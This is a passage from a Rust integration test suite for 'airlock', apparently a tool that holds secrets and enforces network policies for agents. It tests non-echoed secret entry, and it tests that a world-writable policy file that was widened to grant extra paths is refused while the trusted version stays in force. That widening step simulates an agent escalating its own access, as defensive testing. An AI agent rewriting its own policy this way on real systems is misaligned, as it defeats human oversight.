                  'shown': shown.decode(errors='replace').replace(value.decode(), '<value>')}))
"#;
    // `airlock secret set ARGS...` typed at, and what it said.
    let typed = |args: &[&str]| -> serde_json::Value {
        let out = Command::new(PY)
            .args([
                "-c",
                driver,
                TYPED,
                harness::AIRLOCK,
                "secret",
                "set",
                "--config",
            ])
            .arg(&d.config)
            .args(args)
            .output()
            .expect("python");
        serde_json::from_slice(&out.stdout).unwrap_or_else(|e| panic!("{e}: {}", describe(&out)))
    };
    let seen = typed(&["api-token"]);
    assert_eq!(
        seen["echoed"], false,
        "the terminal showed the value: {seen}"
    );
    assert_eq!(seen["rc"], 0, "{seen}");
    let shown = seen["shown"].as_str().unwrap_or_default();
    assert!(
        shown.starts_with("value of secret api-token (not shown; Enter ends it): ")
            && shown.contains("stored api-token"),
        "{seen}"
    );
    // A kind whose value is a YAML document is not typed blind: it is
    // refused at a terminal, with how to give it.
    let refused = typed(&["gh", "--kind", "github_app"]);
    assert_eq!(refused["rc"], 1, "{refused}");
    assert!(
        refused["shown"]
            .as_str()
            .unwrap_or_default()
            .starts_with("airlock: the value of a github_app secret is a YAML document"),
        "{refused}"
    );
    // What was typed, and only that, is the secret now.
    let out = d.run_agent_dns(
        "web-bot",
        &[
            "sh",
            "-c",
            &format!(
                "curl -sS --fail-with-body -o /dev/null -H \"Authorization: Bearer $API_TOKEN\" https://api.example.test:{}/hello",
                up.port
            ),
        ],
    );
    assert!(out.status.success(), "{}", describe(&out));
    let sent = up
        .seen()
        .last()
        .and_then(|s| s.header("authorization").map(str::to_owned));
    assert!(
        sent.as_deref() == Some(&format!("Bearer {TYPED}")),
        "the upstream did not receive the typed value (it got {})",
        if sent.as_deref() == Some(&format!("Bearer {SECRET}")) {
            "the value set before"
        } else {
            "something else"
        }
    );
}

/// A policy file that another user can write is not trusted: an agent run
/// as that user could grant itself anything. The daemon keeps the version
/// it trusted and says why, `policy check` says the same, and once root
/// alone can write the file again its content is taken.
#[test]
fn a_policy_file_others_can_write_is_refused_and_the_trusted_version_stays() {
    use std::os::unix::fs::PermissionsExt as _;
    let Setup { d, up } = setup("");
    let get = |path: &str| {
        let url = format!("https://api.example.test:{}{path}", up.port);
        stdout(&d.run_agent_dns(
            "web-bot",
            &["curl", "-sS", "-o", "/dev/null", "-w", "%{http_code}", &url],
        ))
    };
    assert_eq!(get("/hello"), "200");
    assert_eq!(get("/widened"), "403");
    let path = d.policy_dir.join("web-bot.yaml");
    let chmod = |mode| {
        std::fs::set_permissions(&path, std::fs::Permissions::from_mode(mode)).expect("chmod")
    };
    let errors = || d.status().expect("status")["policies"]["errors"].clone();
    let wait_for = |what: &str, done: &dyn Fn(&serde_json::Value) -> bool| {
        let deadline = std::time::Instant::now() + Duration::from_secs(10);
        loop {
            let errors = errors();
            if done(&errors) {
                return errors;
            }
            assert!(
                std::time::Instant::now() < deadline,
                "{what}: {errors}\n{}",
                d.log_text()
            );
            std::thread::sleep(Duration::from_millis(100));
        }
    };
    // Made writable by every user, then widened, as that user would.
    chmod(0o666);
    let good = std::fs::read_to_string(&path).expect("policy");
    std::fs::write(
        &path,
        good.replace("paths: [\"/hello\",", "paths: [\"/widened\", \"/hello\","),
    )
    .expect("widen");
    let reported = wait_for("the file was never refused", &|e| {
        e.as_array().is_some_and(|e| !e.is_empty())
    });
    let reported = reported[0].as_str().unwrap_or_default();
    assert!(
        reported.starts_with(&format!(
            "{}: it is writable by every user (mode 0666)",
            path.display()
        )) && reported.contains("chmod go-w"),
        "{reported}"
    );
    assert_eq!(get("/widened"), "403", "the widened policy took effect");
    assert_eq!(
        get("/hello"),
        "200",
        "the trusted version is no longer in force"
    );
    let out = std::process::Command::new(harness::AIRLOCK)
        .args(["policy", "check"])
        .arg(&path)
        .output()
        .expect("policy check");
    assert!(!out.status.success(), "{}", describe(&out));
    assert!(
        String::from_utf8_lossy(&out.stderr).contains("it is writable by every user"),
        "{}",
        describe(&out)
    );
    // Root's again: what the file says now is taken.
    chmod(0o644);
    wait_for("the file was still refused once root's alone", &|e| {
        e.as_array().is_some_and(Vec::is_empty)
    });
    assert_ne!(get("/widened"), "403");
}
